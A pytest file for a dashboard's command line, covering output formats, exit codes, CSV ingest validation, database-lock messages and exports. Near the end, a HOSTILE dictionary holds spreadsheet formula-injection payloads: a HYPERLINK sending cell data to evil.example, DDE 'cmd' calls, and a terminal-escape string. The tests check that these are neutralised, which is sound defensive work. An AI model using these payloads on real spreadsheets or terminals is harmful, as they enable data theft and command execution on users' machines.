"""The command line: formats, exit codes and messages, run as a user runs it."""

import csv
import io
import json
import os
import subprocess
import sys
from datetime import datetime

import pytest

from dashboard.core.access import User
from dashboard.core.control_chars import ACTING
from dashboard.services import audit_log
from dashboard.services.comments import add_comment, find_target
from dashboard.services.database import open_store
from dashboard.store import figures as store_figures
from dashboard.store.connection import connect
from tests.files import csv_bytes


def run(ws, *args, env=None):
    cmd = [sys.executable, "-m", "dashboard", *args, "--db", str(ws.db_path)]
    full_env = {**os.environ, "DASHBOARD_DATA": str(ws.data_dir), **(env or {})}
    return subprocess.run(cmd, capture_output=True, text=True, env=full_env, timeout=120)


def test_targets_json_and_csv(empty_ws):
    out = run(empty_ws, "targets", "--format", "json")
    assert out.returncode == 0
    rows = json.loads(out.stdout)
    cargo = next(r for r in rows if r["id"] == "airport_cargo")
    assert (cargo["target_value"], cargo["unit"], cargo["comparator"]) == (
        110.0,
        "万吨",
        "at_least",
    )
    assert cargo["target_low"] is None and cargo["due_date"] is None
    assert len(rows) == 90  # issue 15 added four targets
    csv_out = run(empty_ws, "targets", "--year", "2026", "--format", "csv")
    assert csv_out.stdout.splitlines()[0].startswith("id,entity,year,section,name_zh")
    assert len(csv_out.stdout.splitlines()) == 91
    assert run(empty_ws, "targets", "--year", "2030", "--format", "csv").stdout.count("\n") == 1


@pytest.mark.both_engines
def test_progress_json_fields_and_nulls(sample_ws):
    out = run(sample_ws, "progress", "--format", "json")
    assert out.returncode == 0, out.stderr
    rows = {r["id"]: r for r in json.loads(out.stdout)}
    needed = {
        "id",
        "name_zh",
        "kind",
        "unit",
        "target",
        "target_low",
        "target_high",
        "actual",
        "actual_period",
        "completion_pct",
        "time_share_pct",
        "gap_pp",
        "required_pace",
        "projected",
        "status",
        "explanation_zh",
        "explanation_en",
    }
    assert needed <= set(rows["ev_chargers"])
    ev = rows["ev_chargers"]
    assert (
        ev["actual"],
        ev["actual_period"],
        ev["completion_pct"],
        ev["time_share_pct"],
        ev["gap_pp"],
        ev["status"],
    ) == (2450.0, "1—10月", 81.7, 83.3, -1.6, "at_risk")  # issue 15: periods as 1—10月
    gdp = rows["gdp_growth"]
    assert gdp["completion_pct"] is None and gdp["time_share_pct"] is None  # never 0
    assert rows["new_intl_routes"]["target_low"] == 5 and rows["new_intl_routes"]["target"] is None


@pytest.mark.both_engines
def test_progress_as_of_and_table(sample_ws):
    out = run(sample_ws, "progress", "--as-of", "2026-06")
    assert out.returncode == 0
    line = next(x for x in out.stdout.splitlines() if x.startswith("ev_chargers"))
    assert line.split()[-6:] == ["1,470", "1—6月", "49", "50", "-1", "at_risk"]
    assert run(sample_ws, "progress", "--as-of", "2026-13").returncode == 2


def add_user(ws, name, role, *departments, password="correct horse 7"):
    args = ["user", "add", name, "--role", role]
    for d in departments:
        args += ["--department", d]
    cmd, env = (
        [sys.executable, "-m", "dashboard", *args, "--db", str(ws.db_path)],
        {**os.environ, "DASHBOARD_DATA": str(ws.data_dir)},
    )
    return subprocess.run(
        cmd, input=password + "\n", capture_output=True, text=True, env=env, timeout=60
    )


def test_ingest_accepts_rejects_and_dry_runs(empty_ws, tmp_path):
    assert add_user(empty_ws, "alice", "uploader", "市发展改革委").returncode == 0
    assert add_user(empty_ws, "bob", "uploader", "市发展改革委").returncode == 0
    good = tmp_path / "good.csv"
    good.write_bytes(csv_bytes([["指标", "时期", "数值"], ["充电桩", "2026年10月", "2450"]], "gbk"))
    bad = tmp_path / "bad.csv"
    bad.write_bytes(
        csv_bytes(
            [
                ["指标", "时期", "数值"],
                ["充电桩", "2026年10月", "x"],
                ["新建公共充电桩", "2026年10月", "1"],
            ]
        )
    )
    dry = run(empty_ws, "ingest", str(good), "--dry-run", "--user", "alice")
    assert (dry.returncode, dry.stdout.strip()) == (
        0,
        "1 figure(s) to store, 0 row(s) skipped (not catalogue indicators); "
        "dry run, nothing stored",
    )
    refused = run(empty_ws, "ingest", str(bad), "--user", "bob")
    assert refused.returncode == 1
    assert [x.split(" — ")[0] for x in refused.stdout.splitlines()[:2]] == [
        "bad.csv:2:C: 'x' is not a number",
        "bad.csv:3:A: unknown indicator '新建公共充电桩'",
    ]
    ok = run(empty_ws, "ingest", str(good), "--user", "alice")
    assert (ok.returncode, ok.stdout.strip()) == (
        0,
        "1 figure(s) stored, 0 row(s) skipped (not catalogue indicators)",
    )
    progress = json.loads(run(empty_ws, "progress", "--format", "json").stdout)
    assert next(r for r in progress if r["id"] == "ev_chargers")["actual"] == 2450.0
    assert run(empty_ws, "ingest", str(tmp_path / "missing.csv"), "--user", "alice").returncode == 2
    assert run(empty_ws, "ingest").returncode == 2


def test_rebuild_and_template(sample_ws, tmp_path):
    out = run(sample_ws, "rebuild")
    assert out.returncode == 0 and out.stdout.startswith("rebuilt ")
    xlsx = tmp_path / "t.xlsx"
    out = run(sample_ws, "template", "--month", "2026-11", "--out", str(xlsx))
    assert out.returncode == 0 and xlsx.read_bytes()[:2] == b"PK"
    csv_path = tmp_path / "t.csv"
    run(sample_ws, "template", "--month", "2026-01", "--out", str(csv_path))
    text = csv_path.read_bytes().decode("utf-8-sig")
    assert "fai_growth" not in text and "ev_chargers" in text  # no January for 1-2月 data


def test_broken_catalogue_is_reported_by_row(empty_ws):
    text = empty_ws.targets_csv.read_text("utf-8")
    empty_ws.targets_csv.write_text(text.replace(",110,", ",,", 1), "utf-8")
    out = run(empty_ws, "targets")
    assert out.returncode == 1
    assert out.stderr.startswith("targets.csv:11:target_value: a at_least target needs a number")


@pytest.mark.parametrize("engine", ["duckdb"])  # a file lock; the server: the test below
def test_busy_database_is_a_clear_message(empty_ws):
    run(empty_ws, "targets")
    import duckdb

    holder = subprocess.Popen(
        [
            sys.executable,
            "-c",
            (
                "import duckdb,time,sys; c=duckdb.connect(sys.argv[1]); print('held', flush=True); "
                "time.sleep(30)"
            ),
            str(empty_ws.db_path),
        ],
        stdout=subprocess.PIPE,
        text=True,
    )
    try:
        assert holder.stdout.readline().strip() == "held"
        out = run(empty_ws, "targets", env={"DASHBOARD_LOCK_TIMEOUT": "1"})
        assert out.returncode == 1
        assert out.stderr.startswith(
            f"error: The database {empty_ws.db_path} is in use by another program"
        )
        assert "Traceback" not in out.stderr and "IOException" not in out.stderr
    finally:
        holder.kill()
    assert duckdb  # imported to show the holder is a plain DuckDB process


@pytest.mark.parametrize("engine", ["postgresql"])
def test_a_writer_waiting_too_long_on_the_server_is_a_clear_message(empty_ws, tmp_path):
    from dashboard.store import dialect
    from dashboard.store.connection import connect, transaction

    run(empty_ws, "targets")
    path = tmp_path / "oct.csv"
    path.write_bytes(csv_bytes([["指标", "时期", "数值"], ["充电桩", "2026年10月", "2450"]]))
    with connect(empty_ws.db_path) as holder, transaction(holder):
        dialect.lock_writers(holder)  # another writer's turn, held for the whole command
        out = run(
            empty_ws, "ingest", str(path), "--admin-override", env={"DASHBOARD_LOCK_TIMEOUT": "1"}
        )
    assert out.returncode == 1
    assert out.stderr == (
        f"error: Another save is still running on the database server {empty_ws.db_path} "
        "(waited 1 s); nothing of this one was stored. Please try again shortly.\n"
    )
    with connect(empty_ws.db_path) as con:
        assert con.execute("SELECT count(*) FROM uploads").fetchone()[0] == 0
    assert run(empty_ws, "ingest", str(path), "--admin-override").returncode == 0
    with connect(empty_ws.db_path) as con:
        assert (
            con.execute(
                "SELECT count(*) FROM journal_lines WHERE line LIKE ?", ['%"kind":"upload"%']
            ).fetchone()[0]
            == 1
        )


@pytest.mark.parametrize("args", [[], ["nonsense"], ["progress", "--format", "xml"]])
def test_usage_errors_exit_2(empty_ws, args):
    cmd = [sys.executable, "-m", "dashboard", *args]
    assert subprocess.run(cmd, capture_output=True, timeout=60).returncode == 2


@pytest.mark.both_engines
def test_snapshot_and_export_commands(sample_ws, tmp_path):
    assert add_user(sample_ws, "chief", "admin").returncode == 0
    out = run(sample_ws, "snapshot", "--as-of", "2026-10", "--note", "例会", "--user", "chief")
    assert (out.returncode, out.stdout.strip()) == (0, "1")
    for fmt, magic in (("csv", b"\xef\xbb\xbf"), ("xlsx", b"PK"), ("pdf", b"%PDF")):
        path = tmp_path / f"s.{fmt}"
        res = run(sample_ws, "export", "--snapshot", "1", "--format", fmt, "--out", str(path))
        assert res.returncode == 0, res.stderr
        assert path.read_bytes().startswith(magic)
    res = run(
        sample_ws,
        "export",
        "--as-of",
        "2026-06",
        "--format",
        "csv",
        "--out",
        str(tmp_path / "live.csv"),
    )
    assert res.stdout.strip().endswith("(csv, 90 targets, as of 2026-06)")
    missing = run(
        sample_ws, "export", "--snapshot", "9", "--format", "csv", "--out", str(tmp_path / "x.csv")
    )
    assert (missing.returncode, missing.stderr.strip()) == (1, "error: no snapshot #9")


def test_without_accounts_the_shell_user_acts_as_administrator(empty_ws, tmp_path):
    good = tmp_path / "good.csv"
    good.write_bytes(csv_bytes([["指标", "时期", "数值"], ["充电桩", "2026年10月", "2450"]]))
    out = run(empty_ws, "ingest", str(good))
    assert (out.returncode, out.stdout.strip()) == (
        0,
        "1 figure(s) stored, 0 row(s) skipped (not catalogue indicators)",
    )
    assert run(empty_ws, "snapshot", "--as-of", "2026-10").stdout.strip() == "1"
    log = json.loads(run(empty_ws, "audit", "--format", "json").stdout)
    people = [e for e in log if e["user_name"] not in ("system", "sample-data")]
    assert [(e["user_name"], e["action"], e["outcome"]) for e in people] == [
        ("cli", "upload", "accepted"),
        ("cli", "snapshot", "taken"),
    ]
    assert add_user(empty_ws, "fgw", "uploader", "市发展改革委").returncode == 0
    refused = run(empty_ws, "ingest", str(good))  # accounts exist now: rules apply
    assert refused.returncode == 1 and refused.stderr.startswith("error: no account 'cli'")


HOSTILE = {
    "link": '=HYPERLINK("http://evil.example/?"&A1,"点我")',
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "escape": "王\x1b]0;pwned\x07\x1b[2J\x1b[31m红\u202etxt.exe\x9b31m",
}


def test_csv_and_tables_from_the_command_line_are_inert(sample_ws):
    """Comments and failed-login names reach `progress` and `audit` output: formulas are
    neutralised as in the page exports, terminal escapes are written out, not acted on."""
    with open_store(sample_ws) as con:
        add_comment(
            sample_ws,
            con,
            User("u", "admin"),
            find_target(con, "trade_quality", 2026),
            10,
            reason=HOSTILE["link"],
            measures=HOSTILE["minus"],
            status="on_track",
            at=datetime(2026, 11, 20),
        )
        for name in HOSTILE.values():
            audit_log.record(sample_ws, con, name, "login", "failed", at=datetime(2026, 11, 20))
    progress = run(sample_ws, "progress", "--format", "csv", "--as-of", "2026-10")
    row = next(
        r for r in csv.DictReader(io.StringIO(progress.stdout)) if r["id"] == "trade_quality"
    )
    assert (row["reason"], row["measures"]) == ("'" + HOSTILE["link"], "'" + HOSTILE["minus"])
    assert row["explanation_zh"] == "'" + HOSTILE["link"]  # a judged target's comment
    audit_csv = run(sample_ws, "audit", "--format", "csv").stdout
    names = [r["user_name"] for r in csv.DictReader(io.StringIO(audit_csv))][-4:]
    assert names == [
        "'" + HOSTILE["link"],
        "'" + HOSTILE["at"],
        "'" + HOSTILE["minus"],
        "王\\x1b]0;pwned\\x07\\x1b[2J\\x1b[31m红\\u202etxt.exe\\x9b31m",
    ]
    table = run(sample_ws, "audit").stdout
    assert "王\\x1b]0;pwned\\x07\\x1b[2J\\x1b[31m红\\u202etxt.exe\\x9b31m" in table
    as_json = run(sample_ws, "audit", "--format", "json").stdout
    assert json.loads(as_json)[-1]["user_name"] == HOSTILE["escape"]  # the value, unchanged
    for out in (progress.stdout, audit_csv, table, as_json):
        assert not ACTING.search(out)


def test_file_names_printed_by_ingest_are_inert(empty_ws, tmp_path):
    path = tmp_path / "a\x1b[31mb.csv"
    path.write_bytes(csv_bytes([["指标", "时期", "数值"], ["充电桩\u202e", "2026-10", "1"]]))
    out = run(empty_ws, "ingest", str(path), "--dry-run", "--admin-override")
    assert out.returncode == 1
    assert out.stdout.startswith("a\\x1b[31mb.csv:0:-: no catalogue figure in the file")
    assert out.stderr == (
        "a\\x1b[31mb.csv:2: skipped: '充电桩\\u202e' is not a catalogue indicator\n"
    )
    assert not ACTING.search(out.stdout + out.stderr)


@pytest.mark.parametrize("engine", ["postgresql"])
def test_on_a_server_rebuild_replays_its_journal_and_backup_points_to_pg_dump(sample_ws, tmp_path):
    path = tmp_path / "oct.csv"
    path.write_bytes(csv_bytes([["指标", "时期", "数值"], ["充电桩", "2026年10月", "2480"]]))
    assert run(sample_ws, "ingest", str(path), "--admin-override").returncode == 0
    with connect(sample_ws.db_path) as con:
        before = store_figures.current_figures(con)
        lines = con.execute("SELECT count(*) FROM journal_lines").fetchone()[0]
    out = run(sample_ws, "rebuild")
    assert (out.returncode, out.stderr) == (0, "")
    assert out.stdout.startswith(f"rebuilt {sample_ws.db_path}: 8 upload(s), ")
    with connect(sample_ws.db_path) as con:
        assert store_figures.current_figures(con).equals(before)
        # replayed, not written again: the journal is as long as before
        assert con.execute("SELECT count(*) FROM journal_lines").fetchone()[0] == lines
    out = run(sample_ws, "backup", "--out", str(tmp_path / "backups"))
    assert out.returncode == 1
    assert out.stderr.startswith(
        f"error: the records live on the database server {sample_ws.db_path} (journal and "
        "upload archive included): back them up with pg_dump"
    )
    assert not (tmp_path / "backups").exists()
